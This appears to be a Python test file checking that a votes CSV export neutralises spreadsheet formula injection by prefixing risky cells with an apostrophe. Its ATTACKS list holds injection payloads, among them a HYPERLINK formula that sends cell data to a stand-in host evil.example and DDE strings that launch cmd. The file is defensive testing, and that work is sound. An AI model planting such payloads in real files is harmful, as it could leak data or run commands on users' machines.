"""Issue 13 case 10: the votes CSV export wrote formula cells as they were.

A prompt or a model's answer such as `=HYPERLINK("http://evil.example/?"&A1,"click")` runs
as a formula when the export is opened in Excel or LibreOffice. OWASP's guidance: a cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`.
"""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from core.compare.votes import CSV_COLUMNS, Vote, to_csv

ATTACKS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1", "=1+1\n第二行"]


def _rows(data: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))


@pytest.mark.parametrize("attack", ATTACKS)
def test_formula_cells_are_exported_as_text(attack):
    vote = Vote(a="base", b="lora", choice="A", prompt=attack, answer_a=attack, answer_b="正常的回答", model=attack, run_id="r1")
    [row] = _rows(to_csv([vote]))
    for column in ("prompt", "answer_a", "model"):
        assert row[column] == "'" + attack  # shown as text; the quote is hidden by the spreadsheet
    assert row["answer_b"] == "正常的回答" and row["winner"] == "base" and row["choice"] == "A"


def test_plain_text_is_unchanged():
    vote = Vote(a="base", b="lora", choice="tie", prompt="你好 = hello", answer_a="a-b", answer_b="1+1")
    [row] = _rows(to_csv([vote]))
    assert (row["prompt"], row["answer_a"], row["answer_b"]) == ("你好 = hello", "a-b", "1+1")
    assert list(row) == list(CSV_COLUMNS)


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=40))
def test_no_exported_cell_starts_like_a_formula(text):
    vote = Vote(a="base", b="lora", choice="B", prompt=text, answer_a=text, answer_b=text)
    [row] = _rows(to_csv([vote]))
    for column in ("prompt", "answer_a", "answer_b"):
        cell = row[column]
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
        assert cell == ("'" + text if text.startswith(("=", "+", "-", "@", "\t", "\r")) else text)
